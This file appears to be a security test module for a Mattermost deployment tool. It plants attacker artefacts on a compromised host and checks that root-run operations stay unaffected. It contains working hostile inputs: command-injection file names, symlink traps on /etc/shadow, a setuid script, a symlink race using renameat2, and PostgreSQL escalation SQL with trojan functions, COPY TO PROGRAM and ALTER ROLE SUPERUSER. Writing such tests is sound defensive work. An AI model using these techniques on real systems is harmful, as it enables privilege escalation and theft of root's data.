"""A host whose server is taken over: what a process with its account and its database role plants, and what must be as before."""

from __future__ import annotations

import hashlib
import os
import re
import stat
from pathlib import Path

SECRET = "of root alone: 5f0c7d31e2"
# directories that the attacker would like to reach: one that all can enter, one of root's alone
PRECIOUS = "/srv/precious", "/root/precious"
# another account of the host, which races too
NEIGHBOUR = "neighbour"
SETUP = f"""
set -e
useradd -m {NEIGHBOUR}
for place in {" ".join(PRECIOUS)}; do
    mkdir -p $place/inner
    for file in file shadow inner/file; do echo '{SECRET}' >$place/$file; chmod 600 $place/$file; done
done
chmod 755 /srv/precious
"""

# -- what the attacker does ------------------------------------------------------------------------------------------------

# As the server's account, outside its sandbox; again before each operation. Names begin with owned where a program could make a file of them.
FILES = r"""
import os, socket, struct

STATE, PRECIOUS = "/var/opt/mattermost", ("/srv/precious", "/root/precious")
BYTES = [
    b"owned\nposts=PATH[$(touch owned-number)]", b"-rf", b"--checkpoint-action=exec=touch owned-tar", b"$(touch owned-words)",
    b"`touch owned-ticks`", b";touch owned-list;", b"a\n99999999999999999999 b", b"\x1b]0;owned\x07\x1b[2J", b"\xff\xfe\x80", b"*", b"'\"\\",
    b"%n%s", b"n" * 255, b" ", b"a\tlock\towned", "\u202eowned".encode(), b"data/../../../etc/owned",
]
TARGETS = ["/etc/shadow", "/etc", "/", "/etc/owned", "/proc/self/mem", "/dev/zero", *PRECIOUS, PRECIOUS[0] + "/file"]

def attempt(what, *arguments):
    try:
        what(*arguments)
    except OSError:
        pass

def bind(path):
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(path)

for part in ("data", "plugins", "client-plugins", "logs"):
    top = os.path.join(STATE, part)
    place = os.path.join(top, "owned")
    attempt(os.makedirs, place)
    if not os.path.isdir(place):
        continue
    os.chdir(place)
    for number, target in enumerate(TARGETS):
        attempt(os.symlink, target, f"link{number}")
    for name in BYTES:
        attempt(os.mkdir, name.replace(b"/", b"_"))
        attempt(lambda: open(name.replace(b"/", b"_") + b".f" if len(name) < 250 else b"m" * 255, "wb").write(b"x"))
    attempt(os.mkfifo, "fifo")
    attempt(bind, "socket")
    attempt(os.truncate, os.open("huge", os.O_CREAT | os.O_WRONLY, 0o600), 64 << 20)
    attempt(lambda: (open("program", "w").write("#!/bin/sh\ntouch /etc/owned\n"), os.chmod("program", 0o6755)))
    attempt(os.makedirs, "/".join(["deep"] * 60))
    attempt(os.makedirs, "closed/inner")
    attempt(os.chmod, "closed", 0o000)
    # beside what the server stores, where a later name may be root's
    for name in ("database.dump", "manifest", ".new", "config.json.new", "mattermost-2026-01-01T00-00-00.000.log.gz"):
        attempt(os.symlink, "/etc/owned", os.path.join(top, name))
attempt(os.makedirs, os.path.join(STATE, "plugins/$(touch owned-plugin)"))
attempt(lambda: open(os.path.join(STATE, "plugins/$(touch owned-plugin)/plugin.json"), "w").write('{"id": "../../../../etc/owned", "version": "1\\n2"}'))
attempt(lambda: open(os.path.join(STATE, "logs/mattermost.log"), "a").write('{"level":"error","msg":"\x1b]0;owned\x07 $(touch owned-log) (hidden) hidden"}\n' * 2000))
# where a program with more rights may put something under a name that can be guessed
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run/mattermost"):
    for name in ("mattermost", "mattermost-deploy.lock", "mattermost-move", "mattermost-switch", "mattermost-backup", "salt", "restic", ".root_salt", "pg_dump"):
        attempt(os.symlink, "/etc/owned", os.path.join(folder, name))
"""

# While operations run, as the server's account and as another one: holds the locks that it can open, exchanges folders for links,
# and takes the names beside root's temporary ones.
RACER = r"""
import ctypes, fcntl, glob, os, time

libc = ctypes.CDLL(None, use_errno=True)
held, seen = [], set()
for folder in ("/run/lock", "/run", "/var/lib/mattermost-deploy", "/run/mattermost-deploy"):
    for path in glob.glob(folder + "/*lock*") + glob.glob(folder + "/lock/*"):
        try:
            held.append(open(path))
            fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            pass
while True:
    for number, target in enumerate(("/root/precious", "/srv/precious")):
        for part in ("data", "plugins"):
            place = f"/var/opt/mattermost/{part}/race{number}"
            try:
                if not os.path.isdir(place):
                    os.makedirs(place + "/inner")
                    for name in ("file", "shadow", "inner/file"):
                        open(f"{place}/{name}", "w").write("mine\n")
                    os.symlink(target, place + "-link")
                libc.renameat2(-100, place.encode(), -100, (place + "-link").encode(), 2)  # in one step, back and forth
            except OSError:
                pass
    for folder in ("/tmp", "/var/tmp", "/run/lock", "/dev/shm"):
        for name in os.listdir(folder):
            if name in seen or "owned" in name or name.endswith((".new", ".part", ".tmp")):  # the last: of the other racer
                continue
            seen.add(name)
            for new in (name + ".new", name + ".part", name + ".tmp"):
                try:
                    os.symlink("/etc/owned", f"{folder}/{new}")
                except OSError:
                    pass
    time.sleep(0.002)
"""

# As the role, in its database: the programs' queries go on, and each piece of it calls this.
PROOF = "/var/tmp/owned-proof"
ROLE = rf"""
SET client_min_messages = error;
CREATE OR REPLACE FUNCTION public.evil() RETURNS bigint LANGUAGE plpgsql AS $f$
BEGIN
  BEGIN RESET SESSION AUTHORIZATION; RESET ROLE; EXCEPTION WHEN others THEN NULL; END;
  BEGIN EXECUTE 'COPY (SELECT session_user) TO PROGRAM ''(id; cat) >>{PROOF}/sql; ln -sf /etc/owned /etc/postgresql/15/main/conf.d/mattermost.conf'''; EXCEPTION WHEN others THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE mattermost SUPERUSER'; EXCEPTION WHEN others THEN NULL; END;
  BEGIN EXECUTE 'CREATE ROLE owned SUPERUSER LOGIN'; EXCEPTION WHEN others THEN NULL; END;
  RETURN 1;
END $f$;
CREATE OR REPLACE FUNCTION public.hashtextextended(text, integer) RETURNS bigint LANGUAGE sql AS 'SELECT pg_catalog.hashtextextended($1, $2::bigint) + 0 * public.evil()';
CREATE OR REPLACE FUNCTION public.truth(anyelement) RETURNS boolean IMMUTABLE LANGUAGE sql AS 'SELECT public.evil() = 1';
CREATE OR REPLACE FUNCTION public.touched() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.evil(); RETURN coalesce(new, old); END';
CREATE OR REPLACE FUNCTION public.equal(text, integer) RETURNS boolean LANGUAGE sql AS 'SELECT public.evil() = 1';
DO $$ BEGIN CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = integer, FUNCTION = public.equal); EXCEPTION WHEN others THEN NULL; END $$;
DO $$ BEGIN CREATE DOMAIN public.short AS text CHECK (public.evil() = 1); EXCEPTION WHEN others THEN NULL; END $$;
DO $$ BEGIN CREATE TYPE public.pair AS (a text, b text); EXCEPTION WHEN others THEN NULL; END $$;
CREATE OR REPLACE FUNCTION public.as_pair(text) RETURNS public.pair LANGUAGE sql AS 'SELECT ROW($1, public.evil()::text)::public.pair';
DO $$ BEGIN CREATE CAST (text AS public.pair) WITH FUNCTION public.as_pair(text) AS IMPLICIT; EXCEPTION WHEN others THEN NULL; END $$;
CREATE TABLE IF NOT EXISTS public.trap (n int CHECK (public.evil() = n), word public.short, made bigint DEFAULT public.evil());
CREATE TABLE IF NOT EXISTS public."owned
posts 9 9'""; $(touch owned-table)" (n int);
INSERT INTO public.trap VALUES (1, E'a\nposts=$(touch owned-row)');
CREATE INDEX IF NOT EXISTS trapped ON public.trap ((public.truth(n))) WHERE false;
CREATE OR REPLACE VIEW public.mattermost AS SELECT public.evil() AS n;
CREATE OR REPLACE RULE entered AS ON INSERT TO public.trap DO ALSO SELECT public.evil();
DO $$ BEGIN -- it may be a view by now
  DROP TRIGGER IF EXISTS touched ON public.posts; CREATE TRIGGER touched AFTER INSERT OR UPDATE ON public.posts FOR EACH ROW EXECUTE FUNCTION public.touched();
EXCEPTION WHEN wrong_object_type THEN NULL; END $$;
DROP MATERIALIZED VIEW IF EXISTS public.kept; CREATE MATERIALIZED VIEW public.kept AS SELECT public.evil() AS n;
COMMENT ON TABLE public.trap IS E'\\! touch owned-comment\n\\connect postgres';
SELECT set_config('search_path', 'public,pg_catalog;ALTER/**/ROLE/**/mattermost/**/SUPERUSER', false); ALTER DATABASE mattermost SET search_path FROM CURRENT;
ALTER ROLE mattermost SET search_path = public, pg_catalog;
"""

PLANT = f"""
set -e
mkdir -p {PROOF}; chmod 1777 {PROOF}; chown mattermost {PROOF}
cat >/var/tmp/owned.py <<'PYTHON'
{FILES}
PYTHON
cat >/var/tmp/racer.py <<'PYTHON'
{RACER}
PYTHON
cat >/var/tmp/owned.sql <<'SQL'
{ROLE}
SQL
chmod 644 /var/tmp/owned.py /var/tmp/racer.py /var/tmp/owned.sql
cd /var/tmp
runuser -u mattermost -- python3 owned.py
runuser -u mattermost -- psql -Xq -v ON_ERROR_STOP=1 -d mattermost -f owned.sql
logger -t mattermost "$(printf '\\033]0;owned\\007 {{"level":"error","msg":"$(touch owned-journal) Failed"}}')"
for who in mattermost {NEIGHBOUR}; do
    systemctl is-active -q owned-$who || systemd-run -q --unit=owned-$who --uid=$who --working-directory=/var/tmp python3 racer.py
done
"""
UNCOUNTED = (
    r"find /var/opt/mattermost -depth -name '*[[:cntrl:]]*' -exec rm -r {} +"  # names that break a line of a list
)
RACERS = f"owned-mattermost owned-{NEIGHBOUR}"
END = f"systemctl kill -s KILL {RACERS}; systemctl stop {RACERS}; systemctl reset-failed {RACERS}"

# -- what must be as before ------------------------------------------------------------------------------------------------

# the role's own places, and those of PostgreSQL: what is in there may belong to them
ROLES = re.compile(
    r"var/opt/mattermost/(data|logs|plugins|client-plugins|replaced-[^/]*)(/|$)|var/opt/mattermost/config/config\.json$|var/tmp/|tmp/"
)
POSTGRESQL = re.compile(r"(var/lib|var/log|etc|var/cache)/postgresql(/|$)")
# what operations write: it has to be root's, and nobody else may write it
OURS = re.compile(
    r"(etc/(mattermost|letsencrypt)|opt/mattermost|var/lib/mattermost-deploy|var/backups/mattermost|var/opt/mattermost)(/|$)"
    r"|(usr/local/sbin|etc/systemd/system|etc/systemd/system/[^/]*|etc/nginx/conf\.d)/mattermost|etc/tmpfiles.d/mattermost|etc/nginx/mattermost(/|$)"
)
# copies of the server's own file, in a directory that nobody else can enter
COPIES = re.compile(r"var/lib/mattermost-deploy/switch/(before|newer|failed)/[^/]+/config\.json$")
# what the system itself writes at any time
SYSTEMS = re.compile(
    r"(proc|sys|dev|run)(/|$)|var/(log|cache|lib/(systemd|apt|dpkg|logrotate|letsencrypt|nginx|private))(/|$)|root/\.cache(/|$)|var/www(/|$)|.*/__pycache__(/|$)"
)
# without PostgreSQL its roles are gone
OTHER = """
ss -Hltn | awk '$4 !~ /:(80|443)$/ {print "port", $4}' | sort -u
systemctl list-unit-files --no-legend | awk '$1 !~ /^mattermost|^owned-|scope$/ {print "unit", $1, $2}'
cd /; runuser -u postgres -- psql -XAtqc "SELECT 'role', rolname, rolsuper, rolcreaterole, rolreplication FROM pg_roles WHERE rolname !~ '^pg_' ORDER BY 2"
runuser -u postgres -- psql -XAtqc "SELECT 'member', roleid::regrole, member::regrole FROM pg_auth_members WHERE member > 16383 OR roleid > 16383"
:
"""


def plant(deployment) -> None:
    """Have the attacker plant all of it, again where it is gone, and be at work until `END`."""
    done = deployment.host.ssh("sh -s", input=PLANT, check=False)
    assert done.returncode == 0, done.stderr


def look(deployment) -> dict:
    """Return what there is outside the role's places: path, or a name of something else, -> what it is."""
    root = Path(deployment.host.root)
    accounts = {
        int(line.split(":")[2]): line.split(":")[0] for line in (root / "etc/passwd").read_text().splitlines() if line
    }
    found = {}
    for path, status in _walk(root):
        kept = _is(path, status, root, accounts)
        if kept:
            found[os.fsdecode(path)] = kept
    found.update(dict.fromkeys(deployment.ssh(OTHER).splitlines(), "is there"))
    return found


def _walk(root):
    """Yield each path below *root*, relative and as bytes, with its status; the role's and the system's own places are left out."""
    top = os.fsencode(root)
    folders = [b""]
    while folders:
        folder = folders.pop()
        try:
            entries = list(os.scandir(os.path.join(top, folder)))
        except FileNotFoundError:
            continue
        for entry in entries:
            path = os.path.join(folder, entry.name)
            if SYSTEMS.match(os.fsdecode(path)) or ROLES.match(os.fsdecode(path) + "/"):
                continue
            try:
                status = entry.stat(follow_symlinks=False)
            except FileNotFoundError:
                continue
            yield path, status
            if stat.S_ISDIR(status.st_mode):
                folders.append(path)


def _is(path, status, root, accounts) -> str:
    name, owner = os.fsdecode(path), accounts.get(status.st_uid, str(status.st_uid))
    words = f"{stat.filemode(status.st_mode)} {owner}:{status.st_gid}"
    if POSTGRESQL.match(name):
        return "" if owner in ("postgres", "root") and not stat.S_ISLNK(status.st_mode) else words
    if OURS.match(name):
        is_link = stat.S_ISLNK(status.st_mode)
        config = name == "var/opt/mattermost/config/config.json" or COPIES.match(name)
        is_private = owner == "root" and (is_link or not status.st_mode & 0o6022)
        odd = not is_private and not config or "owned" in os.path.basename(name)
        return f"is not root's alone: {words}" if odd else ""
    place = os.path.join(os.fsencode(root), path)
    if stat.S_ISLNK(status.st_mode):
        return f"{words} -> {os.fsdecode(os.readlink(place))}"
    if not stat.S_ISREG(status.st_mode):
        return words
    if name.startswith("usr/"):
        return f"{words} {status.st_size} {status.st_ctime_ns}"
    with open(place, "rb") as file:
        return f"{words} {hashlib.sha256(file.read()).hexdigest()}"


def changes(before: dict, after: dict) -> list[str]:
    """Return what is not as it was, a line each."""
    names = sorted(before.keys() | after.keys(), key=str)
    return [
        f"{name!a}: {before.get(name, 'was not there')!a} -> {after.get(name, 'is gone')!a}"
        for name in names
        if before.get(name) != after.get(name)
    ]


def gained(deployment) -> list[str]:
    """Return what the attacker got: what ran with another's rights, what root alone could read and is now in its places."""
    said = deployment.ssh(
        f"cat {PROOF}/sql 2>/dev/null; find {PROOF} ! -user mattermost -printf 'made by %u: %p\n';"
        f"find /var/opt/mattermost/ -xdev -type f -size -100k -exec grep -alF '{SECRET}' {{}} + | sed 's/^/has a secret of root: /'",
        check=False,
    )
    return said.splitlines()
